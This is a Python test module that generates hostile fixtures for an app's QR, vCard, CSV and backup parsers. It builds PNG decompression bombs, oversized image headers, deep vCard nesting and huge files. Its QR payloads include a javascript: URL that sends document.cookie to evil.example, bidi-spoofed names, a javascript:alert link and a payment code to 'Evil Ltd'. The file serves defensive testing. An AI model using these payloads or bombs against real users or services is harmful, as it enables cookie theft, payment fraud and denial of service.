"""Large or binary hostile inputs, made at test time from a few lines each (tests/hostile/ stays small).

Each generator returns the bytes of one case; the manifest names it as ``"gen:NAME"``.
"""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Callable

from networking_app.qr_image import qr_png

GENERATORS: dict[str, Callable[[], bytes]] = {}


def generator(function: Callable[[], bytes]) -> Callable[[], bytes]:
    GENERATORS[function.__name__] = function
    return function


# -------------------------------------------------------------------------- PNG pieces
def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def png_of_zeros(width: int, height: int, color_type: int = 0, bit_depth: int = 8) -> bytes:
    """A valid PNG of the given size whose pixels are all zero: a few hundred KB at most,
    whatever its size, because the zeros are compressed while they are made (a zlib bomb)."""
    channels = {0: 1, 2: 3, 4: 2, 6: 4}[color_type]
    row = b"\x00" * (1 + width * channels * bit_depth // 8)
    packer = zlib.compressobj(9)
    parts = [packer.compress(row) for _ in range(height)]
    idat = b"".join(parts) + packer.flush()
    header = struct.pack(">IIBBBBB", width, height, bit_depth, color_type, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", idat) + _chunk(b"IEND", b"")


def png_header_only(width: int, height: int) -> bytes:
    """A PNG that claims a size and holds one compressed row: readers must judge it by its header."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    idat = zlib.compress(b"\x00" * (1 + width))
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", idat) + _chunk(b"IEND", b"")


@generator
def png_100_megapixels() -> bytes:
    return png_header_only(10_000, 10_000)


@generator
def png_decompression_bomb_400_megapixels() -> bytes:
    return png_of_zeros(20_000, 20_000)  # ~400 KB on disk, 400 MB once decoded


@generator
def png_bomb_just_over_the_limit() -> bytes:
    return png_of_zeros(6_400, 6_400)  # 41 MP


@generator
def jpeg_huge_header() -> bytes:
    """A JPEG start whose frame header claims 60,000 x 60,000 pixels."""
    sof = struct.pack(">BHHB", 8, 60_000, 60_000, 1) + bytes([1, 0x11, 0])
    return b"\xff\xd8" + b"\xff\xc0" + struct.pack(">H", len(sof) + 2) + sof + b"\xff\xd9"


@generator
def webp_huge_header() -> bytes:
    """A lossless WebP header claiming 16,384 x 16,384 pixels (268 MP)."""
    bits = (16_383) | (16_383 << 14)
    vp8l = b"\x2f" + struct.pack("<I", bits) + b"\x00" * 8
    body = b"WEBP" + b"VP8L" + struct.pack("<I", len(vp8l)) + vp8l
    return b"RIFF" + struct.pack("<I", len(body)) + body


@generator
def png_truncated() -> bytes:
    return qr_png("MECARD:N:Doe,Jo;EMAIL:jo@example.org;;")[:120]


@generator
def gif_named_png() -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("L", (40, 40), 255).save(out, "GIF")
    return out.getvalue()


@generator
def zip_named_png() -> bytes:
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("card.vcf", "BEGIN:VCARD\nFN:Zip\nEND:VCARD\n")
    return out.getvalue()


@generator
def empty_file() -> bytes:
    return b""


def _qr(payload: str) -> bytes:
    return qr_png(payload, box_size=4)


@generator
def qr_wifi() -> bytes:
    return _qr("WIFI:S:CafeNet;T:WPA;P:hunter2;;")


@generator
def qr_otp() -> bytes:
    return _qr("otpauth://totp/Bank:ana?secret=JBSWY3DPEHPK3PXP&issuer=Bank")


@generator
def qr_sepa_payment() -> bytes:
    return _qr("BCD\n002\n1\nSCT\nCOBADEFFXXX\nEvil Ltd\nDE89370400440532013000\nEUR999.00\n\n\nInvoice 1\n")


@generator
def qr_javascript() -> bytes:
    return _qr("javascript:fetch('//evil.example/'+document.cookie)")


@generator
def qr_card_with_bidi_name() -> bytes:
    return _qr("BEGIN:VCARD\r\nVERSION:3.0\r\nN:\u202eevoL;Ada\u2066\r\nFN:Ada \u202eevoL\u2069\r\n"
               "EMAIL:ada@example.org\r\nURL:javascript:alert(1)\r\nEND:VCARD\r\n")


# ---------------------------------------------------------------------- big texts
@generator
def payload_over_4kb() -> bytes:
    return ("BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Big\r\nNOTE:" + "x" * 5000 + "\r\nEND:VCARD\r\n").encode()


@generator
def payload_exactly_4096_bytes() -> bytes:
    head = "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Edge Case\r\nEMAIL:edge@example.org\r\nNOTE:"
    tail = "\r\nEND:VCARD\r\n"
    return (head + "n" * (4096 - len(head) - len(tail)) + tail).encode()


@generator
def payload_4097_bytes_of_multibyte_text() -> bytes:
    return ("Ana Lima ana@lima.example " + "é" * 2036).encode()[:4097].ljust(4097, b"a")


@generator
def payload_50kb_single_line() -> bytes:
    return b"Ana Lima ana@lima.example " + b"A" * 50_000


@generator
def payload_agent_nesting() -> bytes:
    depth = 12
    return ("BEGIN:VCARD\nVERSION:2.1\nN:Outer\n" + "AGENT:\nBEGIN:VCARD\nVERSION:2.1\nN:In\n" * depth
            + "END:VCARD\n" * (depth + 1)).encode()


@generator
def payload_mecard_600_phones() -> bytes:
    return ("MECARD:N:Doe,Jo;" + "".join(f"TEL:+1555{i:04d};" for i in range(300)) + ";").encode()[:4000]


@generator
def vcard_10000_emails() -> bytes:
    lines = ["BEGIN:VCARD", "VERSION:3.0", "FN:Many Mails"]
    lines += [f"EMAIL;TYPE=INTERNET:m{i}@example.org" for i in range(10_000)]
    return ("\r\n".join(lines + ["END:VCARD", ""])).encode()


@generator
def vcard_4mb_single_line() -> bytes:
    return b"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Long Line\r\nNOTE:" + b"y" * (4 << 20) + b"\r\nEND:VCARD\r\n"


@generator
def vcard_4mb_without_line_breaks() -> bytes:
    return b"BEGIN:VCARD;" + b"FN:x;" * (800_000)


@generator
def vcard_agent_nesting_50_deep() -> bytes:
    return ("BEGIN:VCARD\nVERSION:2.1\nN:Outer\n" + "AGENT:\nBEGIN:VCARD\nVERSION:2.1\nN:In\n" * 50
            + "END:VCARD\n" * 51).encode()


@generator
def vcard_100000_folded_lines() -> bytes:
    return b"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Folded\r\nNOTE:start" + b"\r\n more" * 100_000 + b"\r\nEND:VCARD\r\n"


@generator
def vcard_quoted_printable_soft_breaks_forever() -> bytes:
    return (b"BEGIN:VCARD\nVERSION:2.1\nFN:Soft\nNOTE;ENCODING=QUOTED-PRINTABLE:a=\n" + b"=41=\n" * 200_000
            + b"b\nEND:VCARD\n")


@generator
def vcard_20000_parameters() -> bytes:
    return b"BEGIN:VCARD\nVERSION:3.0\nFN:Params\nEMAIL" + b";TYPE=x" * 20_000 + b":p@example.org\nEND:VCARD\n"


@generator
def vcard_100000_cards() -> bytes:
    return b"BEGIN:VCARD\nVERSION:3.0\nFN:C\nEND:VCARD\n" * 100_000


@generator
def binary_garbage() -> bytes:
    import random

    rng = random.Random(7)
    return bytes(rng.randrange(256) for _ in range(20_000))


@generator
def backup_json_nesting_bomb() -> bytes:
    return b'{"format":"mutual-backup","tables":' + b"[" * 100_000 + b"]" * 100_000 + b"}"


@generator
def csv_4mb_cell() -> bytes:
    return b"First Name,Last Name,E-mail 1 - Value\r\nAna,Lima," + b"a" * (4 << 20) + b"@x.org\r\n"


@generator
def csv_10000_email_columns() -> bytes:
    header = "First Name," + ",".join(f"E-mail {i} - Value" for i in range(1, 10_001))
    row = "Ana," + ",".join(f"a{i}@x.org" for i in range(1, 10_001))
    return (header + "\r\n" + row + "\r\n").encode()


@generator
def csv_with_nul_bytes() -> bytes:
    return b"First Name,E-mail 1 - Value\r\nAna,ana@x.org\r\nBo\x00b,bob@x.org\r\n"
